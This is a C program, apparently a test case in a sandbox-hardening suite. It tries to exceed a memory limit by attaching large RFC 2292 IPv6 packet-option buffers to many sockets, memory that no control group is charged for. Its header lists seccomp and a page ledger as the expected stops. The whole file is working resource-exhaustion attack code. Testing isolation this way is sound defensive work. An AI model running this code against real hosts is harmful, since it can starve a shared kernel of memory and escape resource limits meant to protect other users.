/* Gives sockets options for their packets in the way of RFC 2292: up to 64 KiB each, charged to nobody.
 * goal: half as much memory again as the limit
 * stopped by: the system call filter, and the ledger of pages that no control group pays for
 * first: seccomp
 * second: ledger
 * ends: exit, memory-limit
 */
#include "attack.h"
#ifndef IPV6_2292PKTOPTIONS
#define IPV6_2292PKTOPTIONS 6
#endif
int main(void) {
    many_descriptors();
    static char list[65000];
    size_t size = 0, wanted = figure("ATTACK_MEMORY") / 2 * 3, got = 0;
    for (; size + CMSG_SPACE(4) <= sizeof list; size += CMSG_SPACE(4)) {
        struct cmsghdr *part = (void *)(list + size);
        *part = (struct cmsghdr){ .cmsg_len = CMSG_LEN(4), .cmsg_level = IPPROTO_IPV6, .cmsg_type = 52 /* IPV6_HOPLIMIT */ };
        *(int *)CMSG_DATA(part) = 3;
    }
    /* Shorter ones, where the kernel takes no longer ones (net.core.optmem_max). */
    for (size_t part = size; part > 4096 && got == 0; part = part / 2 / CMSG_SPACE(4) * CMSG_SPACE(4)) {
        for (; got < wanted; got += part) {
            int fd = socket(AF_INET6, SOCK_DGRAM | SOCK_CLOEXEC, 0);
            if (fd < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_2292PKTOPTIONS, list, part)) break;
        }
    }
    if (got >= wanted) reached("%zu bytes", got);
    return tried();
}
